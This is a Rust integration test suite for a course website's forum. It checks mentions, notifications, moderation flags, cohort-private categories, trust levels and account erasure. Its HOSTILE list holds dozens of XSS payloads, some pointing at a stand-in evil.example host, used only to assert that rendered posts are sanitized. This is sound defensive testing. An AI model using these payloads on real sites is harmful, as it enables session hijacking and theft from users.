//! The forums as their people meet them: a question from an episode answered and marked
//! solved, mentions and notifications, likes, edits with history; hostile Markdown rendered
//! inert; a cohort's category that does not exist for anyone outside its roster; flags that
//! hide a post and moderators who decide, logged; new members' limits with reasons; what the
//! forum keeps about a person.

use crate::accounts::{get, post, PASSWORD};
use crate::both_engines;
use crate::cohorts::{app, learner, privileged, published, user_id};
use crate::helpers::{Engine, TestApp};

const EPISODE: &str = "/es/forum/discuss/desktop-to-cluster/01-what-is-a-cluster";

/// Follows "Discuss this episode" to its topic's address.
async fn episode_topic(app: &TestApp, cookie: &str) -> String {
    let res = get(app, EPISODE, Some(cookie)).await;
    assert_eq!(res.status().as_u16(), 303);
    res.headers()["location"].to_str().unwrap().to_owned()
}

async fn topic_id_of(path: &str) -> i64 {
    path.rsplit('/').next().unwrap().split('-').next().unwrap().parse().unwrap()
}

async fn post_id(app: &TestApp, topic: i64, number: i64) -> i64 {
    sqlx::query_as::<_, (i64,)>("SELECT id FROM forum_posts WHERE topic_id = $1 AND number = $2")
        .bind(topic)
        .bind(number)
        .fetch_one(&app.pool)
        .await
        .unwrap()
        .0
}

/// Replies are paced (5 s apart for members): tests move a person's last post back in time.
async fn rewind(app: &TestApp, email: &str) {
    sqlx::query("UPDATE forum_posts SET created_at = created_at - 600 WHERE user_id = (SELECT id FROM users WHERE email = $1)")
        .bind(email)
        .execute(&app.pool)
        .await
        .unwrap();
    sqlx::query("UPDATE forum_topics SET created_at = created_at - 600 WHERE user_id = (SELECT id FROM users WHERE email = $1)")
        .bind(email)
        .execute(&app.pool)
        .await
        .unwrap();
}

async fn reply(app: &TestApp, topic_path: &str, body: &str, cookie: &str) -> reqwest::Response {
    post(app, &format!("{topic_path}/reply"), &[("body", body)], Some(cookie)).await
}

async fn a_question_from_an_episode_is_answered_and_solved(engine: Engine) {
    let (app, smtp) = app(engine).await;
    let trainer = privileged(&app, &smtp, "lucia@uni.example", "trainer").await;
    let ana = learner(&app, &smtp, "ana@uni.example").await;
    // Lucía has opened the forum once, so she has a handle.
    assert_eq!(get(&app, "/es/forum", Some(&trainer)).await.status().as_u16(), 200);
    let (handle,): (String,) = sqlx::query_as("SELECT handle FROM forum_people WHERE user_id = $1")
        .bind(user_id(&app, "lucia@uni.example").await)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    let topic = episode_topic(&app, &ana).await;
    assert_eq!(episode_topic(&app, &ana).await, topic, "one topic per episode");
    let id = topic_id_of(&topic).await;
    let page = get(&app, &topic, Some(&ana)).await.text().await.unwrap();
    assert!(
        page.contains("/es/courses/desktop-to-cluster/01-what-is-a-cluster"),
        "links back to the episode"
    );
    let question = format!(
        "¿Cómo entro al clúster desde Windows? @{handle} ¿me ayudas?\n\n```bash\nssh ana@cluster\n```"
    );
    assert_eq!(reply(&app, &topic, &question, &ana).await.status().as_u16(), 303);
    // The same post again is refused, with the reason.
    rewind(&app, "ana@uni.example").await;
    let again = reply(&app, &topic, &question, &ana).await;
    assert_eq!(again.status().as_u16(), 409);
    assert!(again.text().await.unwrap().contains("Ya publicaste exactamente esto"));
    // Lucía is told she was mentioned.
    let notes = get(&app, "/es/forum/notifications", Some(&trainer)).await.text().await.unwrap();
    assert!(notes.contains(&format!("/forum/t/{id}-")), "{notes}");
    assert!(page_badge(&app, &trainer).await >= 1);
    let answer = "Usa `ssh` desde PowerShell: `ssh usuario@login.cluster`.";
    assert_eq!(reply(&app, &topic, answer, &trainer).await.status().as_u16(), 303);
    // Ana watches her topic: she hears of the answer.
    let notes = get(&app, "/es/forum/notifications", Some(&ana)).await.text().await.unwrap();
    assert!(notes.contains("#post-3"), "{notes}");
    // … and by email, with a one-click unsubscribe (RFC 8058) that works without cookies.
    let (mail, _) = smtp.wait_for_link("ana@uni.example", "#post-3", 20).await.expect("a reply email");
    let unsubscribe = mail
        .data
        .lines()
        .find_map(|l| l.strip_prefix("List-Unsubscribe: <"))
        .and_then(|l| l.strip_suffix('>'))
        .expect("a List-Unsubscribe header")
        .to_owned();
    assert!(mail.data.contains("List-Unsubscribe-Post: List-Unsubscribe=One-Click"));
    let path = unsubscribe.split_once("//").unwrap().1.split_once('/').unwrap().1;
    let res = app
        .client
        .post(app.url(&format!("/{path}")))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("List-Unsubscribe=One-Click")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);
    let (wants,): (i64,) = sqlx::query_as("SELECT notify_replies FROM users WHERE email = 'ana@uni.example'")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(wants, 0, "no more forum emails");
    let wrong = app.client.post(app.url("/es/forum/unsubscribe/not-a-token")).send().await.unwrap();
    assert_eq!(wrong.status().as_u16(), 404);
    let answer_id = post_id(&app, id, 3).await;
    // Likes: one per person, never one's own.
    for _ in 0..2 {
        let r = post(&app, &format!("/es/forum/posts/{answer_id}/like"), &[("on", "yes")], Some(&ana)).await;
        assert_eq!(r.status().as_u16(), 303);
    }
    let (likes,): (i64,) = sqlx::query_as("SELECT like_count FROM forum_posts WHERE id = $1")
        .bind(answer_id)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(likes, 1);
    let own =
        post(&app, &format!("/es/forum/posts/{answer_id}/like"), &[("on", "yes")], Some(&trainer)).await;
    assert_eq!(own.status().as_u16(), 409);
    // The asker marks the answer; the topic shows it solved; the answerer hears of it.
    let bruno = learner(&app, &smtp, "bruno@uni.example").await;
    let not_asker =
        post(&app, &format!("/es/forum/posts/{answer_id}/solve"), &[("on", "yes")], Some(&bruno)).await;
    assert_eq!(not_asker.status().as_u16(), 403);
    let r = post(&app, &format!("/es/forum/posts/{answer_id}/solve"), &[("on", "yes")], Some(&ana)).await;
    assert_eq!(r.status().as_u16(), 303);
    let page = get(&app, &topic, None).await.text().await.unwrap();
    assert!(page.contains("Resuelto") || page.contains("Solucionado"), "solved shown");
    let notes = get(&app, "/es/forum/notifications", Some(&trainer)).await.text().await.unwrap();
    assert!(notes.contains("#post-3"));
    // Edits keep history: the author sees it, another learner does not.
    let ana_post = post_id(&app, id, 2).await;
    let r = post(
        &app,
        &format!("/es/forum/posts/{ana_post}/edit"),
        &[("body", "¿Cómo entro al clúster? (resuelto)")],
        Some(&ana),
    )
    .await;
    assert_eq!(r.status().as_u16(), 303);
    let history = get(&app, &format!("/es/forum/posts/{ana_post}/history"), Some(&ana)).await;
    assert_eq!(history.status().as_u16(), 200);
    assert!(history.text().await.unwrap().contains("desde Windows"));
    assert_eq!(
        get(&app, &format!("/es/forum/posts/{ana_post}/history"), Some(&bruno)).await.status().as_u16(),
        404
    );
    assert_eq!(
        post(&app, &format!("/es/forum/posts/{ana_post}/edit"), &[("body", "mío")], Some(&bruno))
            .await
            .status()
            .as_u16(),
        403
    );
    // The episode page counts the replies.
    let episode =
        get(&app, "/es/courses/desktop-to-cluster/01-what-is-a-cluster", None).await.text().await.unwrap();
    assert!(episode.contains("2 respuestas"), "reply count on the episode page");
    app.stop().await.unwrap();
}

/// The unread notifications badge on the forum's index.
async fn page_badge(app: &TestApp, cookie: &str) -> usize {
    let page = get(app, "/es/forum", Some(cookie)).await.text().await.unwrap();
    page.matches("class=\"badge\"").count()
}

/// Hostile input, each asserted inert where the post is shown.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"x.swf\"></object>",
    "<embed src=\"x.swf\">",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<style>body{background:red}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<form action=//evil.example><input name=p></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>hover</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "<div><p><b><i>broken nesting</div></b>",
    "<span class=\"hl-x\" onclick=\"alert(1)\">x</span>",
    "<kbd onclick=alert(1)>Ctrl</kbd>",
    "[a](https://e.example/\" onmouseover=\"alert(1))",
    "<a href=\"https://e.example\" target=\"_top\" onfocus=\"alert(1)\" autofocus>x</a>",
    "`<script>` in code is text",
];

/// The rendered post `number` of a topic page.
fn post_html(page: &str, number: i64) -> String {
    let start = page.find(&format!("id=\"post-{number}\"")).expect("post shown");
    let rest = &page[start..];
    let article = &rest[..rest.find("</article>").unwrap()];
    // The post's own content, without the page's action forms around it.
    let body = article.find("class=\"prose\"").map(|i| &article[i..]).unwrap_or("");
    body[..body.find("<div class=\"post-actions\"").unwrap_or(body.len())].to_owned()
}

async fn hostile_markdown_is_rendered_inert(engine: Engine) {
    let (app, smtp) = app(engine).await;
    let ana = learner(&app, &smtp, "ana@uni.example").await;
    let topic = episode_topic(&app, &ana).await;
    let id = topic_id_of(&topic).await;
    assert_eq!(reply(&app, &topic, "Una primera versión.", &ana).await.status().as_u16(), 303);
    let pid = post_id(&app, id, 2).await;
    let on = regex::Regex::new(r"(?i)<[^>]+\son[a-z]+\s*=").unwrap();
    for (i, hostile) in HOSTILE.iter().enumerate() {
        let body = format!("Prueba {i}: {hostile}");
        let r = post(&app, &format!("/es/forum/posts/{pid}/edit"), &[("body", &body)], Some(&ana)).await;
        assert_eq!(r.status().as_u16(), 303, "{hostile}");
        let page = get(&app, &topic, Some(&ana)).await.text().await.unwrap();
        let html = post_html(&page, 2).to_lowercase();
        for bad in [
            "<script",
            "javascript:",
            "vbscript:",
            "<iframe",
            "<object",
            "<embed",
            "<svg",
            "<style",
            "<link",
            "<meta",
            "<base",
            "<form",
            "<input",
            "<img",
            "<video",
            "<audio",
            "style=",
            "<math",
            "<template",
            "formaction",
            "expression(",
            "=\"data:",
        ] {
            assert!(!html.contains(bad), "{hostile:?} left {bad:?}: {html}");
        }
        assert!(!on.is_match(&html), "{hostile:?} left an event handler: {html}");
    }
    // A megabyte, and nesting meant to exhaust the renderer: refused with the reason, nothing saved.
    let (before,): (String,) = sqlx::query_as("SELECT body FROM forum_posts WHERE id = $1")
        .bind(pid)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    let big = "a".repeat(1_000_000);
    let r = post(&app, &format!("/es/forum/posts/{pid}/edit"), &[("body", &big)], Some(&ana)).await;
    assert_eq!(r.status().as_u16(), 422);
    let text = r.text().await.unwrap();
    assert!(
        text.contains("32.000"),
        "{}",
        text.split("<main").nth(1).unwrap_or("").chars().take(1500).collect::<String>()
    );
    let deep = format!("{}hola", "> ".repeat(5000));
    let r = post(&app, &format!("/es/forum/posts/{pid}/edit"), &[("body", &deep)], Some(&ana)).await;
    assert_eq!(r.status().as_u16(), 422);
    let lists = (0..120).map(|i| format!("{}- x\n", "  ".repeat(i))).collect::<String>();
    let r = post(&app, &format!("/es/forum/posts/{pid}/edit"), &[("body", &lists)], Some(&ana)).await;
    assert_eq!(r.status().as_u16(), 422, "deep lists are refused too");
    let (after,): (String,) = sqlx::query_as("SELECT body FROM forum_posts WHERE id = $1")
        .bind(pid)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(after, before, "nothing saved");
    // A pasted notebook address loses its token.
    rewind(&app, "ana@uni.example").await;
    let r =
        reply(&app, &topic, "Mi notebook: [aquí](http://127.0.0.1:8890/user/ana/lab?token=s3cr3t&x=1)", &ana)
            .await;
    assert_eq!(r.status().as_u16(), 303);
    let page = get(&app, &topic, Some(&ana)).await.text().await.unwrap();
    assert!(!page.contains("s3cr3t"));
    app.stop().await.unwrap();
}

async fn a_cohort_category_does_not_exist_outside_its_roster(engine: Engine) {
    let (app, smtp) = app(engine).await;
    let trainer = privileged(&app, &smtp, "lucia@uni.example", "trainer").await;
    let code = published(&app, &trainer, "python-2027", "code", "10").await;
    let ana = learner(&app, &smtp, "ana@uni.example").await;
    let bruno = learner(&app, &smtp, "bruno@uni.example").await;
    assert_eq!(get(&app, "/es/forum", Some(&bruno)).await.status().as_u16(), 200, "bruno gets a handle");
    assert_eq!(
        post(&app, "/es/cohorts/python-2027/join", &[("code", &code)], Some(&ana)).await.status().as_u16(),
        303
    );
    let index = get(&app, "/es/forum", Some(&ana)).await.text().await.unwrap();
    let (cohort,): (i64,) = sqlx::query_as("SELECT id FROM cohorts WHERE slug = 'python-2027'")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    let category = format!("/es/forum/c/cohort-{cohort}");
    assert!(index.contains(&category), "ana sees her cohort's space");
    assert!(!get(&app, "/es/forum", Some(&bruno)).await.text().await.unwrap().contains(&category));
    assert_eq!(get(&app, &category, Some(&bruno)).await.status().as_u16(), 404);
    assert_eq!(get(&app, &category, None).await.status().as_u16(), 404);
    // Ana asks in it and mentions Bruno, who cannot read it: he is not told.
    let res = post(
        &app,
        "/es/forum/new",
        &[
            ("category", &format!("cohort-{cohort}")),
            ("title", "Tarea de la sesión 1"),
            ("body", "¿Alguien más? @bruno"),
        ],
        Some(&ana),
    )
    .await;
    assert_eq!(res.status().as_u16(), 303);
    let topic = res.headers()["location"].to_str().unwrap().to_owned();
    assert_eq!(get(&app, &topic, Some(&bruno)).await.status().as_u16(), 404);
    assert_eq!(get(&app, &topic, None).await.status().as_u16(), 404);
    assert_eq!(
        get(&app, &topic, Some(&trainer)).await.status().as_u16(),
        200,
        "the cohort's trainer reads it"
    );
    let (told,): (i64,) = sqlx::query_as(
        "SELECT COUNT(*) FROM forum_notifications WHERE user_id = (SELECT id FROM users WHERE email = 'bruno@uni.example')",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(told, 0, "no notification leaks the topic");
    // Bruno cannot post into it either, nor act on its posts.
    let res = post(
        &app,
        "/es/forum/new",
        &[("category", &format!("cohort-{cohort}")), ("title", "Intruso aquí"), ("body", "hola")],
        Some(&bruno),
    )
    .await;
    assert_eq!(res.status().as_u16(), 422);
    let first = post_id(&app, topic_id_of(&topic).await, 1).await;
    assert_eq!(
        post(&app, &format!("/es/forum/posts/{first}/like"), &[], Some(&bruno)).await.status().as_u16(),
        404
    );
    assert_eq!(
        post(&app, &format!("/es/forum/posts/{first}/flag"), &[("reason", "spam")], Some(&bruno))
            .await
            .status()
            .as_u16(),
        404
    );
    assert_eq!(reply(&app, &topic, "hola", &bruno).await.status().as_u16(), 404);
    assert_eq!(
        get(&app, &format!("/es/forum/posts/{first}/flag"), Some(&bruno)).await.status().as_u16(),
        404
    );
    app.stop().await.unwrap();
}

async fn flags_hide_a_post_and_moderators_decide(engine: Engine) {
    let (app, smtp) = app(engine).await;
    let bruno = learner(&app, &smtp, "bruno@uni.example").await;
    let topic = episode_topic(&app, &bruno).await;
    let id = topic_id_of(&topic).await;
    assert_eq!(
        reply(&app, &topic, "Compren seguidores baratos en spam.example", &bruno).await.status().as_u16(),
        303
    );
    let spam = post_id(&app, id, 2).await;
    let flag = format!("/es/forum/posts/{spam}/flag");
    assert_eq!(
        post(&app, &flag, &[("reason", "spam")], Some(&bruno)).await.status().as_u16(),
        409,
        "not one's own"
    );
    // Learners on a young site are at level 1: each flag weighs 2; the fifth (10 ≥ 8.33) hides.
    let mut flaggers = Vec::new();
    for i in 0..5 {
        flaggers.push(learner(&app, &smtp, &format!("f{i}@uni.example")).await);
    }
    // The flag page: for readers who did not write the post; a wrong form comes back to it.
    let form = get(&app, &flag, Some(&flaggers[0])).await;
    assert_eq!(form.status().as_u16(), 200);
    assert!(form.text().await.unwrap().contains(&format!("action=\"{flag}\"")));
    assert_eq!(get(&app, &flag, Some(&bruno)).await.status().as_u16(), 404, "not for one's own post");
    assert_ne!(get(&app, &flag, None).await.status().as_u16(), 200, "not without an account");
    let r = post(&app, &flag, &[("reason", "other")], Some(&flaggers[0])).await;
    assert_eq!(r.status().as_u16(), 409, "'something else' needs a note");
    let again = r.text().await.unwrap();
    assert!(
        again.contains(&format!("action=\"{flag}\""))
            && regex::Regex::new(r#"value="other"[^>]*checked"#).unwrap().is_match(&again),
        "the same form, as sent"
    );
    for (i, f) in flaggers.iter().enumerate() {
        let r = post(&app, &flag, &[("reason", "spam")], Some(f)).await;
        assert_eq!(r.status().as_u16(), 303);
        let (hidden,): (Option<i64>,) = sqlx::query_as("SELECT hidden_at FROM forum_posts WHERE id = $1")
            .bind(spam)
            .fetch_one(&app.pool)
            .await
            .unwrap();
        assert_eq!(hidden.is_some(), i == 4, "hidden only at the threshold (flag {i})");
    }
    assert_eq!(
        post(&app, &flag, &[("reason", "spam")], Some(&flaggers[0])).await.status().as_u16(),
        409,
        "once"
    );
    let page = get(&app, &topic, Some(&flaggers[0])).await.text().await.unwrap();
    assert!(!post_html(&page, 2).contains("seguidores"), "hidden from readers");
    let notes = get(&app, "/es/forum/notifications", Some(&bruno)).await.text().await.unwrap();
    assert!(notes.contains("#post-2"), "the author is told");
    // The queue: moderators only.
    assert_eq!(get(&app, "/es/forum/review", Some(&flaggers[0])).await.status().as_u16(), 403);
    let moderator = privileged(&app, &smtp, "mod@uni.example", "moderator").await;
    let queue = get(&app, "/es/forum/review", Some(&moderator)).await.text().await.unwrap();
    assert!(queue.contains("seguidores"));
    // Waiting more than 48 hours, moderators are reminded by email, once.
    sqlx::query("UPDATE forum_reviews SET updated_at = updated_at - 49 * 3600")
        .execute(&app.pool)
        .await
        .unwrap();
    sqlx::query("UPDATE jobs SET run_at = 0 WHERE kind = 'forum-review-reminder' AND done_at IS NULL")
        .execute(&app.pool)
        .await
        .unwrap();
    app.jobs_notify.notify_one();
    let (_, link) =
        smtp.wait_for_link("mod@uni.example", "/forum/review", 20).await.expect("the moderator is reminded");
    assert!(link.ends_with("/forum/review") && link.starts_with("http"), "{link}");
    let (reminded,): (i64,) =
        sqlx::query_as("SELECT COUNT(*) FROM forum_reviews WHERE reminded_at IS NOT NULL")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    assert_eq!(reminded, 1);
    let (review,): (i64,) = sqlx::query_as("SELECT id FROM forum_reviews WHERE post_id = $1")
        .bind(spam)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    let decide = format!("/es/forum/review/{review}");
    assert_eq!(
        post(&app, &decide, &[("decision", "keep"), ("reason", "x")], Some(&flaggers[0]))
            .await
            .status()
            .as_u16(),
        403
    );
    assert_eq!(
        post(&app, &decide, &[("decision", "silence"), ("reason", "")], Some(&moderator))
            .await
            .status()
            .as_u16(),
        409
    );
    let r = post(
        &app,
        &decide,
        &[("decision", "silence"), ("reason", "Spam comercial"), ("days", "3")],
        Some(&moderator),
    )
    .await;
    assert_eq!(r.status().as_u16(), 303);
    // Silenced: no posting, liking or flagging, each with the reason.
    rewind(&app, "bruno@uni.example").await;
    let r = reply(&app, &topic, "otra vez", &bruno).await;
    assert_eq!(r.status().as_u16(), 409);
    let first = post_id(&app, id, 1).await;
    assert_eq!(
        post(&app, &format!("/es/forum/posts/{first}/like"), &[], Some(&bruno)).await.status().as_u16(),
        409
    );
    assert_eq!(
        post(&app, &format!("/es/forum/posts/{first}/flag"), &[("reason", "spam")], Some(&bruno))
            .await
            .status()
            .as_u16(),
        409
    );
    // The log has the automatic hide and the decision; admins export it.
    let admin = privileged(&app, &smtp, "admin@uni.example", "admin").await;
    let log = get(&app, "/es/forum/log.csv", Some(&admin)).await;
    assert_eq!(log.status().as_u16(), 200);
    let csv = log.text().await.unwrap();
    assert!(csv.contains("silence") && csv.contains("Spam comercial") && csv.contains(",hide,"), "{csv}");
    assert_eq!(get(&app, "/es/forum/log.csv", Some(&moderator)).await.status().as_u16(), 403);
    app.stop().await.unwrap();
}

async fn new_members_meet_limits_with_reasons_and_trust_grows(engine: Engine) {
    let (app, smtp) = app(engine).await;
    // Past the bootstrap: fifty people already.
    for i in 0..50 {
        sqlx::query("INSERT INTO users (email, display_name, locale, created_at) VALUES ($1, 'x', 'es', 1)")
            .bind(format!("old{i}@uni.example"))
            .execute(&app.pool)
            .await
            .unwrap();
    }
    let trainer = privileged(&app, &smtp, "lucia@uni.example", "trainer").await;
    let ana = learner(&app, &smtp, "ana@uni.example").await;
    let topic = episode_topic(&app, &ana).await;
    let level = |email: &'static str| {
        let pool = app.pool.clone();
        async move {
            sqlx::query_as::<_, (i64,)>("SELECT trust_level FROM forum_people WHERE user_id = (SELECT id FROM users WHERE email = $1)")
                .bind(email)
                .fetch_one(&pool)
                .await
                .unwrap()
                .0
        }
    };
    assert_eq!(get(&app, "/es/forum", Some(&trainer)).await.status().as_u16(), 200);
    assert_eq!(level("lucia@uni.example").await, 2, "trainers start at 2");
    assert_eq!(get(&app, &topic, Some(&ana)).await.status().as_u16(), 200);
    assert_eq!(level("ana@uni.example").await, 0, "a newcomer on a grown site starts at 0");
    let r = reply(&app, &topic, "[a](https://a.example) [b](https://b.example) [c](https://c.example)", &ana)
        .await;
    assert_eq!(r.status().as_u16(), 422);
    assert!(r.text().await.unwrap().contains("2 enlaces"));
    assert_eq!(reply(&app, &topic, "Mi primera pregunta", &ana).await.status().as_u16(), 303);
    let r = reply(&app, &topic, "Y otra enseguida", &ana).await;
    assert_eq!(r.status().as_u16(), 409);
    assert!(r.text().await.unwrap().contains("30 segundos"));
    // Level 0 cannot flag yet.
    let id = topic_id_of(&topic).await;
    let first = post_id(&app, id, 1).await;
    assert_eq!(
        post(&app, &format!("/es/forum/posts/{first}/flag"), &[("reason", "spam")], Some(&ana))
            .await
            .status()
            .as_u16(),
        409
    );
    // Reading enough (Discourse's level 1: 5 topics entered, 30 posts read) promotes.
    sqlx::query("UPDATE forum_people SET topics_entered = 5, posts_read = 29 WHERE user_id = (SELECT id FROM users WHERE email = 'ana@uni.example')")
        .execute(&app.pool)
        .await
        .unwrap();
    rewind(&app, "lucia@uni.example").await;
    assert_eq!(reply(&app, &topic, "Bienvenida, Ana.", &trainer).await.status().as_u16(), 303);
    assert_eq!(get(&app, &topic, Some(&ana)).await.status().as_u16(), 200);
    assert_eq!(level("ana@uni.example").await, 1, "promoted by reading");
    app.stop().await.unwrap();
}

async fn what_the_forum_keeps_about_a_person_is_exported_and_erased(engine: Engine) {
    let (app, smtp) = app(engine).await;
    let ana = learner(&app, &smtp, "ana@uni.example").await;
    let topic = episode_topic(&app, &ana).await;
    assert_eq!(reply(&app, &topic, "Una pregunta mía", &ana).await.status().as_u16(), 303);
    let export = get(&app, "/es/account/export", Some(&ana)).await.text().await.unwrap();
    let json: serde_json::Value = serde_json::from_str(&export).unwrap();
    assert_eq!(json["forum"]["posts"][0]["markdown"], "Una pregunta mía");
    let id = user_id(&app, "ana@uni.example").await;
    let r = post(&app, "/es/account/delete", &[("password", PASSWORD), ("confirm", "yes")], Some(&ana)).await;
    assert!(r.status().is_redirection() || r.status().is_success(), "{}", r.status());
    let (people,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM forum_people WHERE user_id = $1")
        .bind(id)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(people, 0);
    let (kept, anonymous): (i64, i64) = sqlx::query_as(
        "SELECT COUNT(*), SUM(CASE WHEN user_id IS NULL THEN 1 ELSE 0 END) FROM forum_posts WHERE number = 2",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!((kept, anonymous), (1, 1), "the conversation stays, without her name");
    app.stop().await.unwrap();
}

both_engines!(
    a_question_from_an_episode_is_answered_and_solved,
    hostile_markdown_is_rendered_inert,
    a_cohort_category_does_not_exist_outside_its_roster,
    flags_hide_a_post_and_moderators_decide,
    new_members_meet_limits_with_reasons_and_trust_grows,
    what_the_forum_keeps_about_a_person_is_exported_and_erased,
);
